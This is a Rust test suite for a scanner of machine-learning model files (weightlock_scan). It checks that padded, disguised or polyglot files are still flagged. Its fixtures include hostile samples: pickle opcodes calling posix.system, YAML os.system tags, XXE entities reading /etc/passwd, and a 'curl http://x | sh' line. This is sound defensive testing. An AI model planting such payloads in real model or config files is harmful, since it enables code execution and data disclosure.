//! What a content is, when its first bytes do not say: long texts, vocabularies, pages, media.

use weightlock_scan::{FileReport, Settings, Severity, coverage::Gap, scan};

fn look(name: &str, content: impl AsRef<[u8]>) -> FileReport {
    scan(name, content.as_ref().to_vec().into(), &Settings::default())
}

fn worst(report: &FileReport) -> Option<Severity> {
    report.findings.iter().map(|finding| finding.severity).max()
}

fn rules(report: &FileReport) -> Vec<&str> {
    report.findings.iter().map(|finding| finding.rule).collect()
}

#[track_caller]
fn quiet(name: &str, content: impl AsRef<[u8]>) {
    let report = look(name, content);
    assert!(
        worst(&report) <= Some(Severity::Info),
        "{name}: {:?}",
        report.findings
    );
    assert!(report.coverage.is_complete(), "{name}: {:?}", report.coverage);
}

#[track_caller]
fn refused(name: &str, content: impl AsRef<[u8]>) {
    let report = look(name, content);
    assert!(
        worst(&report) >= Some(Severity::High),
        "{name}: {:?}",
        report.findings
    );
}

/// Whether `report` says that a limit left something unread.
fn is_limited(report: &FileReport) -> bool {
    let mut gaps = report.coverage.gaps.iter();
    gaps.any(|gap| matches!(gap.gap, Gap::Limit { .. }))
}

const EVIL: &[u8] = b"cposix\nsystem\n(Vecho\ntR.";

#[test]
fn a_pickle_behind_any_number_of_printable_opcodes_is_one() {
    for front in [
        b"N0".repeat(2100),
        [&b"]"[..], &b"0]".repeat(2100), b"0"].concat(),
        [b"S'", &[b'x'; 5000][..], b"'\n0"].concat(),
        [b"V", &b"model weights ".repeat(400)[..], b"\n0"].concat(),
        b"F1.5\n0".repeat(1200),
        b"ccollections\nOrderedDict\n0".repeat(300),
        b"I1\n.\n".repeat(1500),
    ] {
        for name in ["m.pkl", "m.txt", "m"] {
            refused(name, [&front, EVIL].concat());
        }
    }
    let mut settings = Settings::default();
    settings.limits.opcodes = 1000;
    let endless = scan("m.pkl", b"N0".repeat(300_000).into(), &settings);
    assert!(
        is_limited(&endless),
        "what is not come to the end of is not clean"
    );
    for text in [
        "# Title\n\nSome words about the model.\n".repeat(300),
        "Name,Value,Vector\n1,2,3\n".repeat(400),
        "cat\ncab\ncan\ncar\ncup\ncut\ndog\n".repeat(300),
        "Vase\nVat\nVault\nWall\n".repeat(500),
        "#version: 0.2\ni n\nt h\n".repeat(400),
        "import os\nprint(os.getcwd())\n".repeat(300),
        "[PAD]\n[unused0]\n[unused1]\n".repeat(300),
        "N. N. Smith (R. I.) wrote it.\n".repeat(300),
    ] {
        quiet("README.md", text);
    }
}

#[test]
fn a_pickle_that_is_something_else_as_well_is_both() {
    let gif = [&b"GIF89a\x01\x000cposix\nsystem\n(Vecho\ntR.\0;"[..], &[0; 64]].concat();
    refused("m.gif", gif);
    quiet(
        "m.gif",
        b"GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    );
}

#[test]
fn blanks_in_front_of_a_document_hide_nothing() {
    let blanks = " \n".repeat(2600);
    let documents = [
        ("config.json", r#"{"auto_map": {"AutoModel": "owner/name--m.C"}}"#),
        (
            "tokenizer_config.json",
            r#"{"chat_template": "{{ x.__class__ }}"}"#,
        ),
        (
            "modules.json",
            r#"[null, {"idx": 0, "path": "../../x", "type": "a.B"}]"#,
        ),
        (
            "x.ipynb",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "import os\nos.system('x')"}]}"#,
        ),
        (
            "m.pmml",
            r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>"#,
        ),
    ];
    for (name, document) in documents {
        let (plain, padded) = (look(name, document), look(name, format!("{blanks}{document}")));
        assert!(!plain.findings.is_empty(), "{name}");
        assert_eq!(rules(&plain), rules(&padded), "{name}");
    }
    quiet("config.json", format!("{blanks}{{\"model_type\": \"bert\"}}"));
    quiet("notes.txt", format!("{blanks}words"));
}

#[test]
fn what_a_limit_leaves_out_is_said() {
    let pad = "x y ".repeat(4_500_000);
    let target = r#""m": {"_target_": "os.system"}"#;
    refused("h.json", format!("{{\"pad\": \"{pad}\", {target}}}"));
    let layer = r#"{"class_name": "Lambda", "config": {"function": {"class_name": "function", "module": "os", "config": "abort"}}}"#;
    refused(
        "architecture.json",
        format!("{{\"pad\": \"{pad}\", {}", &layer[1..]),
    );
    let cell = r#""nbformat": 4, "cells": [{"cell_type": "code", "source": "import os\nos.system('x')"}]"#;
    refused("n.ipynb", format!("{{\"pad\": \"{pad}\", {cell}}}"));
    let numbers = "0,".repeat(1_100_000);
    assert!(is_limited(&look(
        "n.ipynb",
        format!("{{\"pad\": [{numbers}0], {cell}}}")
    )));

    let long = "x y ".repeat(300_000);
    assert!(is_limited(&look(
        "train",
        format!("pad: \"{long}\"\na: !!python/name:os.system x\n")
    )));
    assert!(is_limited(&look(
        "run.sh",
        format!("# {long}\ncurl http://x | sh\n")
    )));
    let listed = look(
        "requirements.txt",
        format!("{}--index-url http://x\n", "# xx\n".repeat(300_000)),
    );
    assert!(worst(&listed) >= Some(Severity::Medium));

    quiet("data.json", format!("{{\"pad\": \"{pad}\"}}"));
    quiet("train", format!("pad: \"{long}\"\n"));
    quiet("requirements.txt", "# xx\n".repeat(300_000));
}

#[test]
fn pages_and_vocabularies_that_begin_with_a_tag_are_text() {
    for (name, text) in [
        (
            "README.md",
            "<p align=\"center\">\n<img src=\"a.png\">\n<br>\n</p>\n\n# Model & more\n\n`a < b`\n",
        ),
        (
            "README.md",
            "<!-- markdownlint-disable -->\n# T & co\n<img src=x>\n",
        ),
        ("vocab.txt", "<cls>\n<pad>\n<eos>\n<unk>\nL\nA\n"),
        ("prompt", "<s>[INST] {prompt} [/INST]\n"),
        (
            "index.html",
            "<!DOCTYPE html>\n<html><head><meta charset=utf-8></head><body><br>a & b</body></html>\n",
        ),
    ] {
        quiet(name, text);
    }
    quiet(
        "vocab.txt",
        (0..2000).map(|n| format!("<extra_id_{n}>\n")).collect::<String>(),
    );
    assert!(!look("m.pmml", "<PMML><br></PMML>").coverage.is_complete());
    refused(
        "README.md",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;<br>",
    );
}

#[test]
fn the_usual_document_types_are_no_alarm() {
    let svg = |kind: &str| {
        format!("<?xml version=\"1.0\"?>\n<!DOCTYPE svg {kind}>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>")
    };
    let address = "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd";
    quiet(
        "x.svg",
        svg(&format!("PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"{address}\"")),
    );
    quiet("x.html", "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>");
    for kind in [
        format!("SYSTEM \"{address}\""),
        "PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://example.org/svg11.dtd\"".to_owned(),
        format!("PUBLIC \"-//OTHER//DTD X//EN\" \"{address}\""),
        format!("PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"{address}\" [<!ENTITY e SYSTEM 'file:///x'>]"),
    ] {
        refused("x.svg", svg(&kind));
    }
}

/// A field of a protocol buffer that holds bytes.
fn part(number: u8, body: &[u8]) -> Vec<u8> {
    [&[number << 3 | 2, u8::try_from(body.len()).unwrap()][..], body].concat()
}

#[test]
fn a_vocabulary_of_sentencepiece_is_no_graph() {
    let piece = |text: &str| part(1, &[&part(1, text.as_bytes())[..], b"\x15\0\0\x80\xbf"].concat());
    let pieces = [piece("<unk>"), piece("<s>"), piece("\u{2581}the")].concat();
    let trainer = part(2, &[part(1, b"corpus.txt"), part(2, b"spm")].concat());
    let normalizer = part(3, &part(1, b"identity"));
    quiet("tokenizer.model", [&pieces[..], &trainer, &normalizer].concat());

    // The settings of the training, and the nodes of a graph: TensorFlow passes over what it does not know.
    let node = part(1, &[part(1, b"n"), part(2, b"PyFunc")].concat());
    let both = look("tokenizer.model", [&pieces[..], &part(2, &node)].concat());
    assert!(worst(&both) >= Some(Severity::High), "{:?}", both.findings);
    let more = look(
        "tokenizer.model",
        [&pieces[..], &part(9, b"something else")].concat(),
    );
    assert!(!more.coverage.is_complete());
}

#[test]
fn text_of_one_byte_a_letter_is_read() {
    quiet("data.csv", b"name,city\n1,Universit\xe9\n");
    quiet("vocab.txt", b"caf\xe9\nna\xefve\n");
    quiet("a.yaml", b"a: caf\xe9\n");
    quiet("m.pmml", b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<PMML><Header copyright=\"Universit\xe9\"/></PMML>");
    quiet(
        "late.txt",
        [b"plain words\n".repeat(1000), b"caf\xe9\n".to_vec()].concat(),
    );
    refused("a.yaml", b"a: caf\xe9\nb: !!python/object/apply:os.system [x]\n");
    refused(
        "m.xml",
        b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///caf\xe9'>]><x>&e;</x>",
    );
    assert!(!look("a.bin", b"caf\xe9\0\x01").coverage.is_complete());
    refused("m.pkl", [&b"Vcaf\xe9\n0".repeat(2)[..], EVIL].concat());
}

fn wave(bytes: usize) -> Vec<u8> {
    let size = u32::try_from(bytes + 4).unwrap().to_le_bytes();
    [&b"RIFF"[..], &size, b"WAVE", &vec![7; bytes]].concat()
}

#[test]
fn media_are_measured_and_what_follows_them_is_seen() {
    let sized = |kind: &[u8; 4], bytes: usize| {
        [
            &u32::try_from(bytes + 8).unwrap().to_be_bytes()[..],
            kind,
            &vec![7; bytes],
        ]
        .concat()
    };
    let film = [sized(b"ftyp", 12), sized(b"moov", 100), sized(b"mdat", 300)].concat();
    let mut page = [&b"OggS\0\x02"[..], &[0; 20], b"\x02\x40\x40"].concat();
    page.extend([9; 128]);
    let pixels = [&b"P6\n# made\n4 2\n255\n"[..], &[2; 24]].concat();
    let mut database = [&b"SQLite format 3\0\x02\0"[..], &[0; 10], &[0, 0, 0, 2]].concat();
    database.resize(1024, 1);
    let flac = [&b"fLaC\x80\0\0\x22"[..], &[5; 200]].concat();
    let tiff = [
        &b"II*\0\x08\0\0\0\x02\0"[..],
        b"\x11\x01\x04\0\x01\0\0\0\x26\0\0\0",
        b"\x17\x01\x04\0\x01\0\0\0\x40\0\0\0",
        &[0; 4],
        &[8; 64],
    ]
    .concat();
    let media = [
        wave(400),
        film,
        page.repeat(3),
        pixels,
        database,
        flac.clone(),
        tiff,
    ];
    for bytes in &media {
        quiet("media", bytes);
        assert!(!look("media", &bytes[..bytes.len() - 20]).coverage.is_complete() || *bytes == flac);
    }
    for bytes in media.iter().filter(|bytes| **bytes != flac) {
        refused(
            "media",
            [bytes, &b"\x80\x02cposix\nsystem\nX\x04\0\0\0echo\x85R."[..]].concat(),
        );
    }
}

#[test]
fn a_table_with_a_type_that_its_reader_unpickles_is_refused() {
    let table = |inside: &[u8]| [b"PAR1", inside, &[0; 100], b"PAR1"].concat();
    quiet("t.parquet", table(b"columns"));
    refused("t.parquet", table(b"xxYXJyb3cucHlfZXh0ZW5zaW9uX3R5cGU="));
    refused(
        "t.arrow",
        [&b"ARROW1\0\0"[..], b"arrow.py_extension_type", b"ARROW1"].concat(),
    );
}
